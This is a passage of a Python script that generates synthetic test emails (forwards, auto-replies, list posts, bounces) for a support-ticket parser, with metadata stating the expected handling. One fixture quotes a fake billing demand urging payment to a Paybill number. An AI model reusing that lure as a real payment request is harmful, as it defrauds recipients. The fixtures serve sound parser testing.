            "203.0.113.74",
            "Sat, 15 Mar 2025 14:50:03 +0300 (EAT)",
            "4Z6zJk8cQfz9s",
        ),
        f"""From: "Faith Wanjala" <faith.wanjala@coldchain-ke.example>
To: <support@fuatilia.test>
Subject: {subject}
Date: Sat, 15 Mar 2025 14:49:59 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="{bnd}"
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AduVsj5PWmCrbg8gRSu1nE0aWBXv2g==
Content-Language: en-gb

This is a multipart message in MIME format.

--{bnd}
Content-Type: text/plain;
	charset="us-ascii"
Content-Transfer-Encoding: 7bit

{body}
--{bnd}
Content-Type: application/ms-tnef;
	name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
	filename="winmail.dat"

{b64(fake_tnef())}
--{bnd}--
""",
    )
    return data, meta(
        frm="faith.wanjala@coldchain-ke.example",
        subject=subject,
        message_id=mid,
        text="The door heater is still faulty",
        attachments=["winmail.dat"],
        notes="Outlook rich-text mail: the real attachment (the service "
        "report) is hidden inside an application/ms-tnef winmail.dat "
        "(fake TNEF bytes with the correct signature 0x223E9F78).",
    )


# ===========================================================================
# forwards
# ===========================================================================


@message("066-forward-inline-gmail.eml", "forward")
def _forward_inline():
    subject = "Fwd: Overdue invoice INV-KF-0093"
    mid = "<CAY5dUf8Hg2Ue6Zd0Xk3Cv9Rm4Pa7Sl1oNw5Vm@mail.gmail.com>"
    bnd = "000000000000c7f1a9062f70e3b8"
    plain = """Hi Fuatilia,

Please see below. This "Fuatilia Billing" says our payment for the cold room is overdue, but we already paid you. Is this someone pretending to be Fuatilia?

Otieno

---------- Forwarded message ---------
From: Fuatilia Billing <billing@fuatilia-payments.example>
Date: Mon, 10 Mar 2025 at 09:12
Subject: Overdue invoice INV-KF-0093
To: <otieno@kisumufresh.example>


Dear customer, your invoice INV-KF-0093 of KSh 240,000 is overdue. Pay immediately to Paybill 999111 to avoid disconnection of your fridges.

Fuatilia Billing Department
"""
    html = """<div dir="ltr"><div>Hi Fuatilia,</div><div><br></div><div>Please see below. This &quot;Fuatilia Billing&quot; says our payment for the cold room is overdue, but we already paid you. Is this someone pretending to be Fuatilia?</div><div><br></div><div>Otieno</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>From: <strong class="gmail_sendername" dir="auto">Fuatilia Billing</strong> <span dir="auto">&lt;<a href="mailto:billing@fuatilia-payments.example">billing@fuatilia-payments.example</a>&gt;</span><br>Date: Mon, 10 Mar 2025 at 09:12<br>Subject: Overdue invoice INV-KF-0093<br>To: &lt;<a href="mailto:otieno@kisumufresh.example">otieno@kisumufresh.example</a>&gt;<br></div><br><br>Dear customer, your invoice INV-KF-0093 of KSh 240,000 is overdue. Pay immediately to Paybill 999111 to avoid disconnection of your fridges.<br><br>Fuatilia Billing Department</div></div>
"""
    data = raw(
        env(
            "otieno@kisumufresh.example",
            "mail-wm1-f53.google.example",
            "192.0.2.53",
            "Mon, 10 Mar 2025 09:40:28 +0300 (EAT)",
            "4Z6sD3z1Orz9e",
        ),
        f"""MIME-Version: 1.0
From: Otieno Odhiambo <otieno@kisumufresh.example>
Date: Mon, 10 Mar 2025 09:40:24 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"

{plain}
--{bnd}
Content-Type: text/html; charset="UTF-8"

{html}
--{bnd}--
""",
    )
    return data, meta(
        frm="otieno@kisumufresh.example",
        subject=subject,
        message_id=mid,
        text="Is this someone pretending to be Fuatilia",
        quoted="Pay immediately to Paybill 999111",
        notes="Gmail inline forward ('---------- Forwarded message ---------' "
        "header block) of a phishing mail; the forwarded From is not "
        "the ticket requester.",
    )


@message("067-forward-as-attachment-rfc822.eml", "forward")
def _forward_rfc822():
    subject = "Fwd: Your Fuatilia order 58213 has shipped"
    mid = "<b7e2c9d4-1f3a-4e8b-9c6d-5a0e7f2b1c38@kitengela-home.example>"
    inner_subject = "[FT-B3N7M] Your order 58213 has shipped"
    fname = "Your Fuatilia order 58213 has shipped.eml"
    bnd = "------------x7Qm2Pz9Lk4Wv8Nc3Rb6Ty1S"
    inner = f"""Return-Path: <orders@fuatilia.test>
From: Fuatilia Orders <orders@fuatilia.test>
To: Ng'ang'a Mwaura <nganga.mwaura@kitengela-home.example>
Subject: {inner_subject}
Date: Thu, 13 Mar 2025 16:00:00 +0300
Message-ID: <ft.190.q2w4e6r8@fuatilia.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Hello,

Your order 58213 has shipped from our Nairobi warehouse.
Tracking number: FTL-58213-KE

Fuatilia Orders
"""
    body = """Hello,

Forwarding the shipping confirmation - the tracking number does not work on your website.

Ng'ang'a
"""
    data = raw(
        env(
            "nganga.mwaura@kitengela-home.example",
            "mail.kitengela-home.example",
            "203.0.113.61",
            "Sun, 16 Mar 2025 09:30:12 +0300 (EAT)",
            "4Z6zXm0eRgz9t",
        ),
        f"""Content-Type: multipart/mixed; boundary="{bnd}"
Message-ID: {mid}
Date: Sun, 16 Mar 2025 09:30:08 +0300
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: Ng'ang'a Mwaura <nganga.mwaura@kitengela-home.example>
To: support@fuatilia.test
Subject: {subject}

This is a multi-part message in MIME format.
--{bnd}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

{body}
--{bnd}
Content-Type: message/rfc822; name="{fname}"
Content-Disposition: attachment; filename="{fname}"

{inner}
--{bnd}--
""",
    )
    return data, meta(
        frm="nganga.mwaura@kitengela-home.example",
        subject=subject,
        message_id=mid,
        text="the tracking number does not work",
        quoted="Tracking number: FTL-58213-KE",
        attachments=[fname],
        notes="Thunderbird 'forward as attachment': message/rfc822 part whose "
        "inner message is our own outbound mail (inner subject carries "
        "[FT-B3N7M] and an ft.* Message-ID; the outer subject has no "
        "ticket reference).",
    )


# ===========================================================================
# automated mail: auto-replies, notifications, lists
# ===========================================================================


@message("068-auto-reply-exchange.eml", "auto_reply")
def _auto_reply():
    subject = "Automatic reply: [FT-4MZ8H] Invoice INV-2025-0312 for 3 display fridges"
    mid = "<7f3e2d1c0b9a48e7a6f5e4d3c2b1a098@PH0PR12MB5481.namprd12.prod.outlook.com>"
    ours = "<ft.121.m5n7b9v3@fuatilia.test>"
    body = """Thank you for your email. I am out of the office until Monday 17 March with limited access to email.

For urgent payment matters please contact accounts@kisumufresh.example.

Otieno Odhiambo
"""
    data = raw(
        env(
            "otieno@kisumufresh.example",
            "mail-dm6nam12on2101.outbound.protection.outlook.example",
            "198.51.100.101",
            "Tue,  4 Mar 2025 09:13:02 +0300 (EAT)",
            "4Z6lK2a1Fbz9t",
        ),
        f"""From: Otieno Odhiambo <otieno@kisumufresh.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Thread-Topic: [FT-4MZ8H] Invoice INV-2025-0312 for 3 display fridges
Thread-Index: AQHbjQx2k3S1f0y8TkuJp2mR7wD4nA==
Date: Tue, 4 Mar 2025 06:12:58 +0000
Message-ID: {mid}
References: {ours}
In-Reply-To: {ours}
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: otieno@kisumufresh.example
Content-Language: en-US
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(body, "ascii")}""",
    )
    return data, meta(
        frm="otieno@kisumufresh.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-4MZ8H",
        is_automated=True,
        text="I am out of the office until Monday 17 March",
        notes="Exchange automatic reply with Auto-Submitted: auto-replied; "
        "it threads to a ticket but must not reopen it or be answered.",
    )


@message("069-ooo-x-autoreply.eml", "auto_reply")
def _x_autoreply():
    subject = "Out of office: Re: [FT-2BX7N] Delivery of your Baridi 300L fridge"
    mid = "<20250305142200.autoreply.3391@icloud.example>"
    ours = "<ft.132.p9o7i5u3@fuatilia.test>"
    body = """Niko safarini Mombasa hadi tarehe 12 Machi. I am travelling and will reply when I am back.

Akinyi
"""
    data = raw(
        env(
            "akinyi.achieng@icloud.example",
            "ci74p00im-qukt09082702.me.example",
            "198.51.100.88",
            "Wed,  5 Mar 2025 14:22:04 +0300 (EAT)",
            "4Z6mM1d3Wxz9w",
        ),
        f"""From: Akinyi Achieng <akinyi.achieng@icloud.example>
To: support@fuatilia.test
Subject: {subject}
Date: Wed, 5 Mar 2025 14:22:00 +0300
Message-ID: {mid}
In-Reply-To: {ours}
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="akinyi.achieng@icloud.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        ticket_ref="FT-2BX7N",
        is_automated=True,
        text="Niko safarini Mombasa hadi tarehe 12 Machi",
        notes="Vacation reply marked only by 'X-Autoreply: yes' (no "
        "Auto-Submitted); subject still carries the ticket tag.",
    )


@message("070-ooo-x-autorespond.eml", "auto_reply")
def _x_autorespond():
    subject = "Out of Office"
    mid = "<E1tT7vQ-0004Xa-2B@cpanel-host.example>"
    body = """Thank you for contacting Mombasa Ice & Cold. Our offices are closed for the Easter holiday and will reopen on Tuesday 22 April.

This is an automated response.
"""
    data = raw(
        env(
            "info@mombasa-ice.example",
            "cpanel-host.example",
            "203.0.113.91",
            "Sat, 15 Mar 2025 16:00:06 +0300 (EAT)",
            "4Z6zMn2fSgz9u",
        ),
        f"""From: Mombasa Ice & Cold <info@mombasa-ice.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sat, 15 Mar 2025 16:00:02 +0300
Message-Id: {mid}
X-Autorespond: Out of Office
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="info@mombasa-ice.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        text="Our offices are closed for the Easter holiday",
        notes="cPanel/Exim autoresponder: only 'X-Autorespond' marks it and "
        "the subject is just 'Out of Office' (no threading headers).",
    )


@message("071-ooo-swahili-auto-submitted.eml", "auto_reply")
def _ooo_swahili():
    subject = "Sipo ofisini: Re: [FT-3YK9D] Malipo ya M-Pesa hayajaonekana"
    mid = "<CAZ7eVg0Ih4Vf8Ae2Yl5Dw1Sn6Qb9Tm3pOx7Wn@mail.gmail.com>"
    ours = "<ft.151.l3k5j7h9@fuatilia.test>"
    body = """Habari,

Niko likizoni hadi tarehe 24 Machi. Kwa masuala ya dharura wasiliana na dada yangu kwa simu 0700 444 555.

Fatuma
"""
    data = raw(
        env(
            "fatuma.hassan@gmail.example",
            "mail-wr1-f41.google.example",
            "192.0.2.41",
            "Fri,  7 Mar 2025 11:00:10 +0300 (EAT)",
            "4Z6pZ1t5Loz9a",
        ),
        f"""MIME-Version: 1.0
From: Fatuma Hassan <fatuma.hassan@gmail.example>
Date: Fri, 7 Mar 2025 11:00:07 +0300
Message-ID: {mid}
Subject: {subject}
To: support@fuatilia.test
In-Reply-To: {ours}
References: {ours}
Auto-Submitted: auto-replied
Content-Type: text/plain; charset="UTF-8"

{body}""",
    )
    return data, meta(
        frm="fatuma.hassan@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-3YK9D",
        is_automated=True,
        text="Niko likizoni hadi tarehe 24 Machi",
        notes="Vacation responder in Swahili ('Sipo ofisini:' prefix) marked "
        "only by Auto-Submitted: auto-replied; it threads to the ticket "
        "by In-Reply-To, References and subject tag.",
    )


@message("072-human-auto-submitted-no.eml", "human_auto_no")
def _auto_submitted_no():
    subject = "Re: [FT-C8D4F] Milk cooler service"
    mid = "<20250316081244.GA7731@eldoret-dairies.example>"
    ours = "<ft.195.f4g6h8j2@fuatilia.test>"
    body = """Hi,

Yes, Thursday works. The milk cooler is at the collection centre in Kapseret, ask for Joseph at the gate.

> Can our technician come on Thursday morning?

Joseph Kimani
"""
    data = raw(
        env(
            "jkimani@eldoret-dairies.example",
            "mail.eldoret-dairies.example",
            "203.0.113.95",
            "Sun, 16 Mar 2025 08:12:48 +0300 (EAT)",
            "4Z7019p2Thz9v",
        ),
        f"""Date: Sun, 16 Mar 2025 08:12:44 +0300
From: Joseph Kimani <jkimani@eldoret-dairies.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Message-ID: {mid}
References: {ours}
In-Reply-To: {ours}
Auto-Submitted: no
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline
User-Agent: Mutt/2.2.12 (2023-09-09)

{body}""",
    )
    return data, meta(
        frm="jkimani@eldoret-dairies.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-C8D4F",
        is_automated=False,
        text="ask for Joseph at the gate",
        quoted="Can our technician come on Thursday morning",
        notes="Human reply that explicitly says 'Auto-Submitted: no' (RFC "
        "3834): a present Auto-Submitted header is NOT enough to call "
        "it automated.",
    )


@message("073-auto-notified-temperature-alert.eml", "auto_reply")
def _auto_notified():
    subject = "Temperature alert: Cold room 2 above 8\u00b0C (Kisumu depot)"
    mid = "<alert.20250316.031500.cr2@monitor.kisumufresh.example>"
    body = """ALERT  Cold room 2 (Kisumu depot)
Current temperature: 11.4 C (limit 8.0 C)
Duration above limit: 47 minutes
Sensor: KF-CR2-T1

This message was generated automatically by ColdWatch. Do not reply.
"""
    data = raw(
        env(
            "alerts@monitor.kisumufresh.example",
            "monitor.kisumufresh.example",
            "203.0.113.76",
            "Sun, 16 Mar 2025 03:15:04 +0300 (EAT)",
            "4Z6zzx4gUjz9w",
        ),
        f"""From: ColdWatch <alerts@monitor.kisumufresh.example>
To: support@fuatilia.test
Subject: {ew_q(subject)}
Date: Sun, 16 Mar 2025 03:15:00 +0300
Message-ID: {mid}
Auto-Submitted: auto-notified
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="alerts@monitor.kisumufresh.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        text="Duration above limit: 47 minutes",
        notes="Machine notification (a customer's cold-room monitor) marked "
        "Auto-Submitted: auto-notified; may open a ticket but must "
        "never get an auto-answer.",
    )


@message("074-precedence-bulk-newsletter.eml", "list")
def _bulk():
    subject = "March offers: 20% off chest freezers \U0001f9ca"
    mid = "<0100019594a1b2c3-4d5e6f70-8192-4a3b-9c8d-7e6f5a4b3c2d-000000@news.baridi-appliances.example>"
    bnd = "----=_Part_4471_1904381223.1741939200000"
    plain = """BARIDI APPLIANCES KENYA - MARCH OFFERS

20% off all chest freezers until 31 March. Free delivery within Nairobi.

Unsubscribe: https://news.baridi-appliances.example/u/8f2a9c
"""
    html = """<html><body style="margin:0"><table width="600" align="center"><tr><td>
<h1 style="color:#0057a8">March offers</h1>
<p>20% off all chest freezers until 31 March. Free delivery within Nairobi.</p>
<p><a href="https://news.baridi-appliances.example/c/8f2a9c/shop">Shop now</a></p>
<p style="font-size:11px"><a href="https://news.baridi-appliances.example/u/8f2a9c">Unsubscribe</a></p>
<img src="http://tracker.baridi-appliances.example/open/8f2a9c.gif" width="1" height="1" alt="" style="display:block">
</td></tr></table></body></html>
"""
    data = raw(
        env(
            "bounce-8f2a9c@news.baridi-appliances.example",
            "a48-110.smtp-out.news.baridi-appliances.example",
            "198.51.100.110",
            "Fri, 14 Mar 2025 11:00:04 +0300 (EAT)",
            "4Z6y2Ab7Wnz9x",
        ),
        f"""From: Baridi Appliances Kenya <news@baridi-appliances.example>
To: support@fuatilia.test
Subject: {ew_b(subject)}
Date: Fri, 14 Mar 2025 08:00:00 +0000
Message-ID: {mid}
Precedence: bulk
List-Unsubscribe: <https://news.baridi-appliances.example/u/8f2a9c>,
 <mailto:unsubscribe-8f2a9c@news.baridi-appliances.example>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Feedback-ID: 1.eu-west-1.news:baridi
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

{plain}
--{bnd}
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

{html}
--{bnd}--
""",
    )
    return data, meta(
        frm="news@baridi-appliances.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        html_hostile=True,
        text="20% off all chest freezers until 31 March",
        notes="Supplier newsletter with Precedence: bulk and List-Unsubscribe "
        "(no List-Id); html carries a remote 1x1 tracking image.",
    )


@message("075-precedence-junk-vacation.eml", "auto_reply")
def _junk():
    subject = "away from my mail"
    mid = "<202503161020.52GAKx0a018845@uni-eldoret.example>"
    body = """I will not be reading my mail for a while.
Your mail regarding "[FT-V5X9A] Lab fridge calibration" will be read when I return.

-- Dr. Daniel Kiplagat
"""
    data = raw(
        env(
            "dkiplagat@uni-eldoret.example",
            "mail.uni-eldoret.example",
            "203.0.113.98",
            "Sun, 16 Mar 2025 10:20:37 +0300 (EAT)",
            "4Z702Bq3Vkz9y",
        ),
        f"""From: dkiplagat@uni-eldoret.example (Daniel Kiplagat)
To: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 10:20:33 +0300
Message-Id: {mid}
Precedence: junk
X-Mailer: vacation 1.2.7.1

{body}""",
    )
    return data, meta(
        frm="dkiplagat@uni-eldoret.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        text="I will not be reading my mail for a while",
        notes="Classic Unix vacation(1) reply marked only by Precedence: "
        "junk; the ticket tag is quoted in the body, not the subject.",
    )


@message("076-precedence-list.eml", "list")
def _precedence_list():
    subject = "[kenya-refrigeration] R600a gas supplier in Nairobi?"
    mid = "<20250316113055.1F2E3D@technician-mail.example>"
    body = """Hello list,

Does anyone know a reliable supplier of R600a gas in Nairobi (Industrial Area or Kirinyaga Road)? Fuatilia support is copied in case they sell it.

Evans Macharia
Fridge technician, Githurai 45
"""
    data = raw(
        env(
            "owner-kenya-refrigeration@lists.coolkenya.example",
            "lists.coolkenya.example",
            "203.0.113.135",
            "Sun, 16 Mar 2025 11:31:02 +0300 (EAT)",
            "4Z704Ds5Wmz9z",
        ),
        f"""From: Evans Macharia <evans.macharia@technician-mail.example>
To: kenya-refrigeration@lists.coolkenya.example
Cc: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 11:30:55 +0300
Message-ID: {mid}
Sender: owner-kenya-refrigeration@lists.coolkenya.example
Precedence: list
Reply-To: kenya-refrigeration@lists.coolkenya.example
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="evans.macharia@technician-mail.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        text="reliable supplier of R600a gas in Nairobi",
        notes="Majordomo-style list post marked only by Precedence: list and "
        "a list Sender/Reply-To (no List-Id); written by a human but "
        "must not get an auto-acknowledgement.",
    )


@message("077-mailing-list-list-id.eml", "list")
def _list_id():
    subject = "[nbo-biz] Anyone used Fuatilia for fridge repairs?"
    mid = "<CAA2fWh3Ji7Wg1Bf5Zm8Ex4To9Rc2Un6qPy0Xo@mail.gmail.com>"
    body = """Hi all,

Has anyone here used Fuatilia for fridge repairs in Nairobi? How long did they take to come? I have copied their support address so they can answer too.

Brenda Chelangat
Chelangat Cakes, Ngara
_______________________________________________
nbo-biz mailing list -- nbo-biz@lists.nairobi-makers.example
To unsubscribe send an email to nbo-biz-leave@lists.nairobi-makers.example
"""
    data = raw(
        env(
            "nbo-biz-bounces@lists.nairobi-makers.example",
            "lists.nairobi-makers.example",
            "203.0.113.136",
            "Sun, 16 Mar 2025 12:05:19 +0300 (EAT)",
            "4Z706Fu7Xnz9a",
        ),
        f"""From: Brenda Chelangat <brenda.chelangat@gmail.example>
To: nbo-biz@lists.nairobi-makers.example
Cc: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 12:05:11 +0300
Message-ID: {mid}
Message-ID-Hash: Q3ZRW7XK2NUM5B4SYVT6HJPC8DEL9GFA
X-Message-ID-Hash: Q3ZRW7XK2NUM5B4SYVT6HJPC8DEL9GFA
X-Mailman-Version: 3.3.9
List-Id: Nairobi small business owners <nbo-biz.lists.nairobi-makers.example>
List-Archive: <https://lists.nairobi-makers.example/archives/list/nbo-biz@lists.nairobi-makers.example/>
List-Help: <mailto:nbo-biz-request@lists.nairobi-makers.example?subject=help>
List-Post: <mailto:nbo-biz@lists.nairobi-makers.example>
List-Subscribe: <mailto:nbo-biz-join@lists.nairobi-makers.example>
List-Unsubscribe: <mailto:nbo-biz-leave@lists.nairobi-makers.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

{body}""",
    )
    return data, meta(
        frm="brenda.chelangat@gmail.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        text="How long did they take to come",
        notes="Mailman 3 list post with List-Id and List-* headers (no "
        "Precedence); support is only Cc'd; a list footer follows the "
        "text.",
    )


# ===========================================================================
# bounces and delivery-system mail
# ===========================================================================


@message("078-mailer-daemon-qmail-bounce.eml", "bounce")
def _qmail_bounce():
    subject = "failure notice"
    mid = "<20250316130033.28814.qmail@mx.kisumufresh.example>"
    bounced = "<ft.63.h5j8k2m4@fuatilia.test>"
    body = f"""Hi. This is the qmail-send program at mx.kisumufresh.example.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<accounts@kisumufresh.example>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <support@fuatilia.test>
Received: (qmail 28812 invoked from network); 16 Mar 2025 13:00:32 +0300
Received: from mx1.fuatilia.test (192.0.2.10)
  by mx.kisumufresh.example with SMTP; 16 Mar 2025 13:00:32 +0300
Message-ID: {bounced}
From: Fuatilia Support <support@fuatilia.test>
To: accounts@kisumufresh.example
Subject: [FT-4MZ8H] Payment received - thank you
Date: Sun, 16 Mar 2025 13:00:30 +0300
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hello,

We have received your payment of KES 187,500. Thank you.

Fuatilia Support
"""
    data = raw(
        env(
            "",
            "mx.kisumufresh.example",
            "203.0.113.75",
            "Sun, 16 Mar 2025 13:00:37 +0300 (EAT)",
            "4Z708Hw9Yoz9b",
        ),
        f"""Date: 16 Mar 2025 13:00:33 +0300
From: MAILER-DAEMON@mx.kisumufresh.example
To: support@fuatilia.test
Subject: {subject}
Message-ID: {mid}

{body}""",
    )
    return data, meta(
        frm="mailer-daemon@mx.kisumufresh.example",
        subject=subject,
        message_id=mid,
        is_automated=True,
        is_bounce=True,
        bounced_message_id=bounced,
        text="I wasn't able to deliver your message",
        quoted="We have received your payment of KES 187,500",
        notes="Old qmail bounce from MAILER-DAEMON: plain text, NOT a "
        "multipart/report DSN; the bounced Message-ID must be found in "
        "the copied headers after '--- Below this line'.",
    )


@message("079-postmaster-quarantine-notice.eml", "auto_reply")
def _postmaster():
    subject = "Message quarantined: [FT-P2Q8R] Cold room service schedule"
    mid = "<quarantine.20250316133512.55a1@mailgw.naivashablooms.example>"
    body = """Your message to p.vandijk@naivashablooms.example was held in quarantine by the content filter of naivashablooms.example.

Subject: [FT-P2Q8R] Cold room service schedule
Reason: attachment type not allowed (.ics)

The recipient has been notified and may release the message.

-- 
postmaster@naivashablooms.example
"""
    data = raw(
        env(
            "",
            "mailgw.naivashablooms.example",
            "203.0.113.99",
            "Sun, 16 Mar 2025 13:35:16 +0300 (EAT)",
            "4Z70BJy1Zpz9c",
        ),
        f"""From: Postmaster <postmaster@naivashablooms.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 13:35:12 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{body}""",
    )
    return data, meta(
        frm="postmaster@naivashablooms.example",
        subject=subject,
        message_id=mid,
        ticket_ref="FT-P2Q8R",
        is_automated=True,
        text="was held in quarantine by the content filter",
        notes="Quarantine notice from postmaster@: automated by its sender "
        "alone (no Auto-Submitted), not a DSN, yet its subject carries "
        "a ticket tag.",
    )


@message("080-dsn-bounce-message-rfc822.eml", "bounce")
def _dsn_full():
    subject = "Undelivered Mail Returned to Sender"
    mid = "<20250311110000.4Z8m1T3xQpz9sK@mx1.fuatilia.test>"
    bounced = "<ft.42.abc123@fuatilia.test>"
    bnd = "4Z8m1T3xQpz9sK.1741680000/mx1.fuatilia.test"
    data = raw(f"""Return-Path: <>
Delivered-To: support@fuatilia.test
Received: by mx1.fuatilia.test (Postfix)
	id 4Z8m1T3xQpz9sK; Tue, 11 Mar 2025 14:00:00 +0300 (EAT)
Date: Tue, 11 Mar 2025 14:00:00 +0300 (EAT)
From: MAILER-DAEMON@mx1.fuatilia.test (Mail Delivery System)
Subject: {subject}
To: support@fuatilia.test
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="{bnd}"
Content-Transfer-Encoding: 8bit
Message-Id: {mid}

This is a MIME-encapsulated message.

--{bnd}
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.fuatilia.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<wanjiru.kamau@gmail.example>: host gmail-smtp-in.l.google.example[192.0.2.27]
    said: 550-5.1.1 The email account that you tried to reach does not exist.
    (in reply to RCPT TO command)

--{bnd}
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.fuatilia.test
X-Postfix-Queue-ID: 4Z8k9R2wLmz9sJ
X-Postfix-Sender: rfc822; support@fuatilia.test
Arrival-Date: Tue, 11 Mar 2025 13:59:58 +0300 (EAT)

Final-Recipient: rfc822; wanjiru.kamau@gmail.example
Original-Recipient: rfc822;wanjiru.kamau@gmail.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.example
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach
    does not exist.

--{bnd}
Content-Description: Undelivered Message
Content-Type: message/rfc822

Return-Path: <support@fuatilia.test>
Received: from app1.fuatilia.test (app1.fuatilia.test [192.0.2.11])
	by mx1.fuatilia.test (Postfix) with ESMTP id 4Z8k9R2wLmz9sJ
	for <wanjiru.kamau@gmail.example>; Tue, 11 Mar 2025 13:59:58 +0300 (EAT)
From: Fuatilia Support <support@fuatilia.test>
To: Wanjiru Kamau <wanjiru.kamau@gmail.example>
Subject: [FT-7K3Q9] Technician visit rescheduled
Date: Tue, 11 Mar 2025 13:59:57 +0300
Message-ID: {bounced}
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Habari Wanjiru,

Your technician visit has been moved to Thursday 13 March, 10am-12pm.

Fuatilia Support

--{bnd}--
""")
    return data, meta(
        frm="mailer-daemon@mx1.fuatilia.test",
        subject=subject,
        message_id=mid,
        is_automated=True,
        is_bounce=True,
        bounced_message_id=bounced,
        text="This is the mail system at host mx1.fuatilia.test",
        quoted="Your technician visit has been moved to Thursday 13 March",
        notes="Postfix DSN (multipart/report; report-type=delivery-status) "
        "with message/delivery-status and the full original as "
        "message/rfc822; the original is our outbound "
        "<ft.42.abc123@fuatilia.test> for ticket FT-7K3Q9.",
    )


@message("081-dsn-bounce-rfc822-headers-only.eml", "bounce")
def _dsn_headers():
    subject = "Delivery Status Notification (Failure)"
    mid = "<67d2f1a0.050a0220.3c9e1b.0042.GMR@mx.googlemail.example>"
    bounced = "<ft.57.q8w3e9r1@fuatilia.test>"
    bnd = "000000000000f4e8c1062f71a2d0"
    data = raw(
        env(
            "",
            "mail-sor-f73.google.example",
            "192.0.2.73",
            "Wed, 12 Mar 2025 09:20:05 +0300 (EAT)",
            "4Z6vC2e8Xkz9v",
        ),
        f"""MIME-Version: 1.0
From: Mail Delivery Subsystem <mailer-daemon@googlemail.example>
To: support@fuatilia.test
Auto-Submitted: auto-replied
Message-ID: {mid}
Date: Wed, 12 Mar 2025 06:20:00 +0000
In-Reply-To: {bounced}
References: {bounced}
Subject: {subject}
Content-Type: multipart/report; boundary="{bnd}"; report-type=delivery-status

--{bnd}
Content-Type: text/plain; charset="UTF-8"

** Address not found **

Your message wasn't delivered to lucy.atieno@yahoo.example because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 <lucy.atieno@yahoo.example>: Recipient address rejected: User unknown

--{bnd}
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.example
Received-From-MTA: dns; mx1.fuatilia.test
Arrival-Date: Wed, 12 Mar 2025 06:19:58 +0000 (UTC)
X-Original-Message-ID: {bounced}

Final-Recipient: rfc822; lucy.atieno@yahoo.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mta7.am0.yahoodns.example. (192.0.2.77, the server for the
 domain yahoo.example.)
Diagnostic-Code: smtp; 550 5.1.1 <lucy.atieno@yahoo.example>: Recipient
 address rejected: User unknown
Last-Attempt-Date: Tue, 11 Mar 2025 23:20:00 -0700 (PDT)

--{bnd}
Content-Type: text/rfc822-headers

Return-Path: <support@fuatilia.test>
Received: from app1.fuatilia.test (app1.fuatilia.test [192.0.2.11])
        by mx1.fuatilia.test (Postfix) with ESMTP id 4Z6vC1d7Wjz9u;
        Wed, 12 Mar 2025 09:19:58 +0300 (EAT)
From: Fuatilia Support <support@fuatilia.test>
